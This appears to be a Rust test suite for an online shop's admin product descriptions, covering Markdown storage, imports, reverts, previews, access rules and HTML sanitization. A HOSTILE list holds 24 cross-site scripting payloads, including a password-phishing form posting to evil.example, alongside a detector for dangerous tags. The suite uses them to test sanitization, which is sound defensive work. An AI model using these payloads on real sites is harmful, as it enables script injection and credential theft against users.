//! Descriptions as they are written, what becomes of them, and products as shoppers would see them (row 46 of the bar).

use super::imports::{apply, counts, settled, upload};
use super::staff::{ADA, EDD, SAM, SUE, act, beside, done, signed_in};
use crate::accounts::Browser;
use crate::shop::{Product, Shop, add};
use axum::http::{Method, StatusCode};
use server::services::catalog::ImageHosts;
use sqlx::PgPool;

const NEW: [(&str, &str); 4] =
    [("title", "Tarn mug"), ("status", "active"), ("variants[0][price]", "24"), ("variants[0][add]", "7")];

/// Makes a product with this description; answers with its id.
async fn make(browser: &Browser<'_>, body: &str) -> String {
    let fields: Vec<_> = NEW.into_iter().chain([("body", body)]).collect();
    let path = done(browser, "products/save", &fields).await.next.path;
    path.strip_prefix("/admin/products/").unwrap().to_owned()
}

/// What is stored of a product's description: the HTML, and how it was written.
async fn stored(pool: &PgPool, id: &str) -> (String, Option<String>) {
    sqlx::query_as("select body_html, body_source from products where id = $1::uuid")
        .bind(id)
        .fetch_one(pool)
        .await
        .unwrap()
}

/// What the form's field for the description holds, as HTML has it.
async fn written(browser: &Browser<'_>, id: &str) -> String {
    let page = browser.get(&format!("/admin/products/{id}")).await.body;
    let field = page.split("<textarea").find(|rest| rest.contains("name=\"body\"")).expect("a description");
    let text = field.split_once('>').unwrap().1;
    text.split("</textarea>").next().unwrap().trim_start_matches('\n').to_owned()
}

async fn save(browser: &Browser<'_>, id: &str, body: &str) {
    let product = sqlx::query_as::<_, (String, String, String)>(
        "select p.version::text, p.slug, v.id::text from products p join variants v on v.product_id = p.id
         where p.id = $1::uuid",
    );
    let (version, slug, variant) = product.bind(id).fetch_one(&browser.shop().pool).await.unwrap();
    let fields = [
        ("product", id),
        ("version", &version),
        ("title", "Tarn mug"),
        ("slug", &slug),
        ("status", "active"),
        ("variants[0][id]", &variant),
        ("variants[0][price]", "24"),
        ("body", body),
    ];
    done(browser, "products/save", &fields).await;
}

/// As the page's script asks for a preview.
async fn described(browser: &Browser<'_>, body: &str) -> (StatusCode, String) {
    let headers = [
        ("accept", "application/json"),
        ("content-type", "application/x-www-form-urlencoded"),
        ("x-shopfront-act", "1"),
    ];
    let body = form_urlencoded::Serializer::new(String::new()).append_pair("body", body).finish();
    let answer = browser.send(Method::POST, "/api/admin/products/describe", &headers, &body).await;
    let html = serde_json::from_str::<serde_json::Value>(&answer.body)
        .ok()
        .and_then(|answer| Some(answer.get("html")?.as_str()?.to_owned()));
    (answer.status, html.unwrap_or(answer.body))
}

#[sqlx::test(migrations = "../migrations")]
async fn markdown_is_stored_as_written_and_shown_as_html(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let edd = signed_in(&shop, &EDD, "editor").await;
    let body = "A **mug**.\r\n\r\n- oven-proof\r\n- [care](https://example.com/care)";
    let id = make(&edd, body).await;
    let html = "<p>A <strong>mug</strong>.</p>\n<ul>\n<li>oven-proof</li>\n\
                <li><a href=\"https://example.com/care\" rel=\"noopener noreferrer\">care</a></li>\n</ul>";
    let source = body.replace("\r\n", "\n");
    assert_eq!(stored(&shop.pool, &id).await, (html.to_owned(), Some(source.clone())));
    assert_eq!(written(&edd, &id).await, source);
    let page = shop.get_until("/products/tarn-mug", |page| page.status == StatusCode::OK).await.body;
    assert!(page.contains("<strong>mug</strong>") && !page.contains("**"), "{page}");
    assert!(edd.get("/admin/products.csv").await.body.contains("<strong>mug</strong>"));

    // Saved as it is, nothing of it changes; written anew, both do.
    save(&edd, &id, &source).await;
    assert_eq!(stored(&shop.pool, &id).await, (html.to_owned(), Some(source)));
    save(&edd, &id, "A *mug*.").await;
    assert_eq!(stored(&shop.pool, &id).await, ("<p>A <em>mug</em>.</p>".to_owned(), Some("A *mug*.".to_owned())));
    save(&edd, &id, " ").await;
    assert_eq!(stored(&shop.pool, &id).await, (String::new(), None));
}

#[sqlx::test(migrations = "../migrations")]
async fn html_of_a_file_is_shown_as_markdown_only_where_that_says_the_same(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let edd = signed_in(&shop, &EDD, "editor").await;
    let plain = "<p>A <em>mug</em>.</p><ul><li>Clay</li></ul>";
    let id = add(&shop.pool, Product { body: plain, ..Product::default() }).await.to_string();
    assert_eq!(written(&edd, &id).await, "A *mug*.\n\n- Clay");
    save(&edd, &id, "A *mug*.\n\n- Clay").await;
    assert_eq!(stored(&shop.pool, &id).await, (plain.to_owned(), None), "what nobody changed stays");

    let rich = "<p>A <u>mug</u>.</p>\n\n<p>Of <b>clay</b>.</p>";
    let other = add(&shop.pool, Product { slug: "other", body: rich, ..Product::default() }).await.to_string();
    assert_eq!(written(&edd, &other).await, rich.replace('<', "&lt;").replace('>', "&gt;"));
    let (_, html) = described(&edd, &rich.replace("mug", "bowl")).await;
    assert_eq!(html.replace('\n', ""), "<p>A <u>bowl</u>.</p><p>Of <b>clay</b>.</p>");
}

#[sqlx::test(migrations = "../migrations")]
async fn who_writes_html_past_the_form_drops_the_source(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let edd = signed_in(&shop, &EDD, "editor").await;
    let id = make(&edd, "A *mug*.").await;
    // A file that says the same leaves it.
    let same =
        upload(&edd, "Handle,Title,Body (HTML),Variant Price\ntarn-mug,Tarn beaker,<p>A <em>mug</em>.</p>,24.00\n")
            .await;
    assert_eq!(apply(&edd, &same).await, "applied");
    assert_eq!(stored(&shop.pool, &id).await.1.as_deref(), Some("A *mug*."));
    let other =
        upload(&edd, "Handle,Title,Body (HTML),Variant Price\ntarn-mug,Tarn beaker,<p>A <u>beaker</u>.</p>,24.00\n")
            .await;
    assert_eq!(apply(&edd, &other).await, "applied");
    assert_eq!(stored(&shop.pool, &id).await, ("<p>A <u>beaker</u>.</p>".to_owned(), None));
    assert_eq!(written(&edd, &id).await, "&lt;p&gt;A &lt;u&gt;beaker&lt;/u&gt;.&lt;/p&gt;");

    save(&edd, &id, "A **bowl**.").await;
    let entry: i64 = sqlx::query_scalar("select max(id) from audit_log where act = 'product.update'")
        .fetch_one(&shop.pool)
        .await
        .unwrap();
    done(&edd, "trail/revert", &[("entry", &entry.to_string()), ("page", "/admin/audit")]).await;
    assert_eq!(stored(&shop.pool, &id).await, ("<p>A <u>beaker</u>.</p>".to_owned(), None));
}

#[sqlx::test(migrations = "../migrations")]
async fn a_revert_brings_back_what_was_written_too(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let edd = signed_in(&shop, &EDD, "editor").await;
    let id = make(&edd, "A *mug*.").await;
    let first = stored(&shop.pool, &id).await;
    save(&edd, &id, "A **bowl**.").await;
    let second = stored(&shop.pool, &id).await;
    let trail = edd.get("/admin/audit?act=product.update").await.body;
    assert!(trail.contains("<del>A *mug*.</del>") && trail.contains("<ins>A **bowl**.</ins>"), "{trail}");
    assert!(!trail.contains("escription source"), "{trail}");
    for expected in [&first, &second] {
        let entry: String = sqlx::query_scalar("select max(id)::text from audit_log where act = 'product.update'")
            .fetch_one(&shop.pool)
            .await
            .unwrap();
        done(&edd, "trail/revert", &[("entry", &entry), ("page", "/admin/audit")]).await;
        assert_eq!(&stored(&shop.pool, &id).await, expected);
    }
    // An entry from before sources were told of: none stays that belongs to other words.
    sqlx::query(
        r#"insert into audit_log (actor, act, subject_kind, subject_id, subject, before, after)
           select 'edd', 'product.update', 'product', id::text, title, '{"description": "<p>Old</p>"}',
                  jsonb_build_object('description', body_html)
           from products"#,
    )
    .execute(&shop.pool)
    .await
    .unwrap();
    let entry: String = sqlx::query_scalar("select max(id)::text from audit_log").fetch_one(&shop.pool).await.unwrap();
    done(&edd, "trail/revert", &[("entry", &entry), ("page", "/admin/audit")]).await;
    assert_eq!(stored(&shop.pool, &id).await, ("<p>Old</p>".to_owned(), None));
}

#[sqlx::test(migrations = "../migrations")]
async fn an_import_that_is_undone_brings_the_source_back(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let edd = signed_in(&shop, &EDD, "editor").await;
    let id = make(&edd, "A *mug*.").await;
    let written = stored(&shop.pool, &id).await;
    const OTHER: &str = "Handle,Title,Body (HTML),Variant Price\ntarn-mug,Tarn mug,<p>A <u>beaker</u>.</p>,24.00\n";
    const SAME: &str = "Handle,Title,Body (HTML),Variant Price\ntarn-mug,Tarn beaker,<p>A <em>mug</em>.</p>,24.00\n";
    for file in [OTHER, SAME] {
        let import = upload(&edd, file).await;
        assert_eq!(apply(&edd, &import).await, "applied");
        done(&edd, "imports/undo", &[("import", &import), ("password", EDD.password)]).await;
        assert_eq!(settled(&shop.pool, &import).await, "undone");
        assert_eq!(stored(&shop.pool, &id).await, written, "{file}");
    }
    // One that was applied before sources were kept takes none away.
    let import = upload(&edd, SAME).await;
    assert_eq!(apply(&edd, &import).await, "applied");
    sqlx::query("update import_products set before = before #- '{product,body_source}'")
        .execute(&shop.pool)
        .await
        .unwrap();
    done(&edd, "imports/undo", &[("import", &import), ("password", EDD.password)]).await;
    assert_eq!(settled(&shop.pool, &import).await, "undone");
    assert_eq!(stored(&shop.pool, &id).await, written);
}

#[sqlx::test(migrations = "../migrations")]
async fn elements_beyond_counting_in_one_another_are_refused(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let edd = signed_in(&shop, &EDD, "editor").await;
    let deep = "<div>".repeat(9_000);
    let (status, words) = described(&edd, &deep).await;
    assert!(status == StatusCode::BAD_REQUEST && words.contains("too deep"), "{status}: {words}");
    let fields: Vec<_> = NEW.into_iter().chain([("body", deep.as_str())]).collect();
    assert!(beside(&act(&edd, "products/save", &fields).await, "body").contains("too deep"));
    let import = upload(&edd, &format!("Handle,Title,Body (HTML),Variant Price\nmug,Mug,{deep},1\n")).await;
    assert_eq!(counts(&shop.pool, &import).await.3, 1);
}

const HOSTILE: [&str; 24] = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://example.com/a.jpg)",
    "[x](https://example.com \"\\\" onmouseover=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1) \"t\"",
    "<p style=\"position:fixed;inset:0\" onclick=\"alert(1)\">x</p>",
    "<style>* { display: none }</style>",
    "<form action=\"https://evil.example\"><input name=\"password\"><button>Log in</button></form>",
    "```\"><script>alert(1)</script>\nx\n```",
    "<base href=\"https://evil.example\"><meta http-equiv=\"refresh\" content=\"0\"><link rel=\"stylesheet\" href=\"//e\">",
];

/// Tags that could run or change a page, as a parser would see them.
fn harmful(html: &str) -> Vec<String> {
    const TAGS: [&str; 16] = [
        "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "base", "meta",
        "link", "template", "noscript", "textarea",
    ];
    let tags = html.split('<').skip(1).filter_map(|rest| rest.split('>').next()).map(str::to_lowercase);
    tags.filter(|tag| {
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default();
        let mut attributes = tag.split('"').step_by(2);
        TAGS.contains(&name)
            || attributes
                .any(|part| part.split_whitespace().any(|one| one.starts_with("on") || one.starts_with("style=")))
            || ["=\"javascript:", "=\"data:", "=\"vbscript:", "=\"java"].iter().any(|scheme| tag.contains(scheme))
    })
    .collect()
}

#[test]
fn harm_is_seen() {
    for html in ["<p onclick=\"x\">", "<a href=\"javascript:x\">", "<script>", "<p title=\"a\" style=\"x\">"] {
        assert_eq!(harmful(html).len(), 1, "{html}");
    }
    assert!(harmful("<a href=\"https://example.com/on?a=b\" title=\"on style=\" rel=\"noopener\">on</a>").is_empty());
}

#[sqlx::test(migrations = "../migrations")]
async fn nothing_in_a_description_runs(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let edd = signed_in(&shop, &EDD, "editor").await;
    let id = make(&edd, "").await;
    for hostile in HOSTILE {
        // By itself, as a word among others, and in a list.
        for body in [hostile.to_owned(), format!("Words {hostile} and more"), format!("- {hostile}\n- two")] {
            let (status, html) = described(&edd, &body).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            assert_eq!(harmful(&html), [""; 0], "{body} comes to {html}");
            save(&edd, &id, &body).await;
            let (kept, source) = stored(&shop.pool, &id).await;
            let shown = ImageHosts::default().shown(&kept);
            assert_eq!((&*shown, source.as_deref()), (&*html, Some(body.trim())), "stored, but for others’ pictures");
        }
        let typed = written(&edd, &id).await;
        assert!(!typed.contains('<'), "{typed}");
    }
}

#[sqlx::test(migrations = "../migrations")]
async fn a_preview_is_for_those_who_write_and_saves_nothing(pool: PgPool) {
    let shop = Shop::open(pool).await;
    assert_eq!(described(&shop.browser(), "x").await.0, StatusCode::UNAUTHORIZED);
    for (person, role) in [(&SAM, "shopper"), (&SUE, "support")] {
        let browser = signed_in(&shop, person, role).await;
        assert_eq!(described(&browser, "x").await.0, StatusCode::FORBIDDEN, "{role}");
    }
    let edd = signed_in(&shop, &EDD, "editor").await;
    assert_eq!(described(&edd, "A *mug*\nof clay").await.1, "<p>A <em>mug</em><br>\nof clay</p>");
    assert_eq!(described(&edd, "").await.1, "");
    let answer = act(&edd, "products/save", &[("body", &"x".repeat(50_001))]).await;
    assert!(beside(&answer, "body").contains("at most 50000"), "{}", answer.body);
    assert_eq!(described(&edd, &"x".repeat(50_001)).await.0, StatusCode::BAD_REQUEST);
    let rows: i64 = sqlx::query_scalar(
        "select (select count(*) from products) + (select count(*) from audit_log where subject_kind = 'product')",
    )
    .fetch_one(&shop.pool)
    .await
    .unwrap();
    assert_eq!(rows, 0);
}

#[sqlx::test(migrations = "../migrations")]
async fn without_a_script_the_form_comes_back_with_its_preview(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let edd = signed_in(&shop, &EDD, "editor").await;
    let id = make(&edd, "Old.").await;
    for (product, form) in [("", "new"), (id.as_str(), id.as_str())] {
        let fields = [("product", product), ("version", "1"), ("title", "Tarn <cup>"), ("body", "A *cup*.")];
        let body = form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish();
        let headers = [("accept", "text/html"), ("content-type", "application/x-www-form-urlencoded")];
        let answer = edd.send(Method::POST, "/api/admin/products/describe", &headers, &body).await;
        let path = format!("/admin/products/{form}?preview=description");
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
        assert_eq!(answer.header("location"), format!("{path}#body-preview"));
        let page = edd.get(&path).await.body;
        assert!(page.contains("<p>A <em>cup</em>.</p>") && page.contains("A *cup*."), "{page}");
        assert!(page.contains("value=\"Tarn &lt;cup&gt;\"") && page.contains("data-unsaved"), "{page}");
        let plain = edd.get(&format!("/admin/products/{form}")).await.body;
        assert!(!plain.contains("A *cup*.") && !plain.contains("data-unsaved"), "only when asked for");
    }
    assert_eq!(stored(&shop.pool, &id).await.0, "<p>Old.</p>");
}

#[sqlx::test(migrations = "../migrations")]
async fn an_editor_sees_a_product_as_shoppers_would(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let colours = ["Sage", "Rust"];
    let draft = Product { status: "draft", body: "<p>Of clay.</p>", colours: &colours, ..Product::default() };
    let id = add(&shop.pool, draft).await.to_string();
    let path = format!("/admin/products/{id}/preview");
    let edd = signed_in(&shop, &EDD, "editor").await;
    assert!(edd.get(&format!("/admin/products/{id}")).await.body.contains(&format!("href=\"{path}\"")));

    let answer = edd.get(&path).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let page = &answer.body;
    assert!(page.contains("shoppers can’t see this yet") && page.contains("<p>Of clay.</p>"), "{page}");
    assert!(page.contains(&format!("href=\"/admin/products/{id}\"")), "a way back");
    assert!(page.contains("€24.00") && page.contains("Sage") && page.contains(&format!("{path}?variant=")), "{page}");
    assert!(!page.contains("data-act=\"add\"") && !page.contains("ld+json"), "nothing to buy, nothing to index");
    assert_eq!((answer.header("cache-control"), answer.header("x-robots-tag")), ("no-store", "noindex"));
    assert!(page.contains("<footer") && !page.contains("class=\"office\""), "the shop around it");

    for status in ["archived", "active"] {
        sqlx::query("update products set status = $1").bind(status).execute(&shop.pool).await.unwrap();
        let page = edd.get(&path).await.body;
        assert_eq!(page.contains("It is archived"), status == "archived", "{page}");
        assert_eq!(page.contains("shoppers see this now"), status == "active", "{page}");
    }
    sqlx::query("delete from variants").execute(&shop.pool).await.unwrap();
    let page = edd.get(&path).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(page.body.contains("It has no price") && page.body.contains("<p>Of clay.</p>"), "{}", page.body);
}

#[sqlx::test(migrations = "../migrations")]
async fn a_preview_is_nobody_elses(pool: PgPool) {
    let shop = Shop::open(pool).await;
    let draft = Product { status: "draft", title: "Secret mug", ..Product::default() };
    let id = add(&shop.pool, draft).await.to_string();
    let path = format!("/admin/products/{id}/preview");
    let scripted = format!("/api/catalog/page?path={path}&search=");
    let ada = signed_in(&shop, &ADA, "admin").await;
    // Twice: what was made for an admin is kept for nobody.
    for _ in 0..2 {
        assert!(ada.get(&path).await.body.contains("Secret mug"));
        assert!(ada.get(&scripted).await.body.contains("Secret mug"));
        let stranger = shop.get(&path).await;
        assert!(stranger.header("location").starts_with("/login?next="), "{}", stranger.status);
        for (answer, who) in [(stranger, "a stranger"), (shop.get(&scripted).await, "a stranger's script")] {
            assert!(answer.status != StatusCode::OK && !answer.body.contains("Secret mug"), "{who}");
        }
        assert_eq!(shop.get("/products/tarn-mug").await.status, StatusCode::NOT_FOUND);
    }
    for (person, role) in [(&SAM, "shopper"), (&SUE, "support")] {
        let browser = signed_in(&shop, person, role).await;
        for path in [&path, &scripted] {
            let answer = browser.send(Method::GET, path, &[("accept", "application/json")], "").await;
            assert_eq!(answer.status, StatusCode::FORBIDDEN, "{role}: {path}");
            assert!(!answer.body.contains("Secret mug"), "{role}: {path}");
        }
    }
    for unknown in ["018f0000-0000-7000-8000-000000000000", "x", "1%00", "..%2f"] {
        let answer = ada.get(&format!("/admin/products/{unknown}/preview")).await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{unknown}");
    }
}
